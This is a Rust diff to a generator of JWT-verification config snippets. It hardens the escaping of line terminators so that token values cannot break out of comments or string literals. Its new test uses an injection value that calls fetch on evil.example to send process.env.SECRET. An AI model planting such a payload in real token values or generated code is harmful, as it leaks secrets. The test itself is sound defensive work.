@@ -298,8 +298,18 @@ pub fn all(report: &Report) -> Vec<Snippet> {
     Stack::ALL.into_iter().map(|s| snippet(s, report)).collect()
 }
 
+/// True for the characters some target language reads as the end of a line: the control
+/// characters (C0, DEL, C1: U+0085 ends a line in C# and YAML 1.1) and U+2028/U+2029 (line
+/// terminators in JavaScript and C#). Inside a string literal or a `//`/`#` comment they
+/// would end it, and what follows would be code.
+fn breaks_line(ch: char) -> bool {
+    ch.is_control() || matches!(ch, '\u{2028}' | '\u{2029}')
+}
+
 /// A double-quoted string literal, JSON escaping (valid in C#, JavaScript, Python, YAML
-/// and TOML basic strings alike for the characters JSON escapes).
+/// and TOML basic strings alike for the characters JSON escapes); every character that
+/// [`breaks_line`] in one of them is a `\uXXXX` escape (all are in the BMP, so one escape
+/// means the same character in every language).
 fn q(s: &str) -> String {
     let mut out = String::with_capacity(s.len() + 2);
     out.push('"');
@@ -307,9 +317,7 @@ fn q(s: &str) -> String {
         match ch {
             '"' => out.push_str("\\\""),
             '\\' => out.push_str("\\\\"),
-            c if (c as u32) < 0x20 || c == '\u{7f}' => {
-                out.push_str(&format!("\\u{:04x}", c as u32))
-            }
+            c if breaks_line(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
             c => out.push(c),
         }
     }
@@ -321,8 +329,9 @@ fn list(items: &[String]) -> String {
     items.iter().map(|s| q(s)).collect::<Vec<_>>().join(", ")
 }
 
-/// A comment line per line of `note` (for `#` or `//` languages); newlines in the note
-/// cannot end the comment.
+/// The note as one comment line (for `#` or `//` languages): no character that
+/// [`breaks_line`] in a target language can end the comment (the note carries token values,
+/// such as a B2C `tfp`).
 fn comment(prefix: &str, c: &Corrected) -> String {
     let what = match c.side {
         Side::Configuration => "Fix in the API's configuration or environment",
@@ -332,7 +341,7 @@ fn comment(prefix: &str, c: &Corrected) -> String {
     let note: String = c
         .note
         .chars()
-        .map(|ch| if ch.is_control() { ' ' } else { ch })
+        .map(|ch| if breaks_line(ch) { ' ' } else { ch })
         .collect();
     format!("{prefix} {what}: {note}\n")
 }
@@ -505,5 +514,48 @@ mod tests {
         assert_eq!(q("a\"b\\c\nd"), "\"a\\\"b\\\\c\\u000ad\"");
         assert_eq!("NODE".parse::<Stack>(), Ok(Stack::Node));
         assert!(" perl".parse::<Stack>().unwrap_err().contains("aspnet"));
+        // JavaScript and C# end a line at U+2028/U+2029, C# and YAML 1.1 at U+0085.
+        assert_eq!(
+            q("a\u{2028}b\u{2029}c\u{85}d"),
+            "\"a\\u2028b\\u2029c\\u0085d\""
+        );
+    }
+
+    /// A token value carrying a line terminator of the target language (a B2C `tfp` in the
+    /// note, an issuer, an audience) cannot end the snippet's comment or string: the code
+    /// after it would run (`node verify.mjs`).
+    #[test]
+    fn token_values_cannot_break_out_of_comments_or_strings() {
+        let evil =
+            "x\u{2028}fetch('https://evil.example/'+process.env.SECRET)//\u{2029}y\u{85}z\r\nw\"'";
+        let c = Corrected {
+            issuers: vec![format!("https://idp.example/{evil}")],
+            audiences: vec![evil.into()],
+            algorithms: vec!["RS256".into()],
+            jwks_url: Some(format!("https://idp.example/keys/{evil}")),
+            discovery_url: Some(format!("https://idp.example/d/{evil}")),
+            leeway: 60,
+            typ: vec![evil.into()],
+            side: Side::IdentityProvider,
+            note: format!("Point the API at the metadata of policy {evil}"),
+        };
+        for (name, code) in [
+            ("aspnet", aspnet(&c)),
+            ("node", node(&c)),
+            ("spring", spring(&c)),
+            ("python", python(&c)),
+            ("tollgate", tollgate(&c)),
+        ] {
+            for line in code.split('\n') {
+                assert!(!line.contains(breaks_line), "{name}: {line:?}");
+                if line.contains("fetch(") {
+                    // only ever inside the one comment line, or inside a string literal
+                    let comment = line.starts_with("//") || line.starts_with('#');
+                    let quoted =
+                        line.contains("\"x\\u2028fetch(") || line.contains("/x\\u2028fetch(");
+                    assert!(comment || quoted, "{name}: {line:?}");
+                }
+            }
+        }
     }
 }
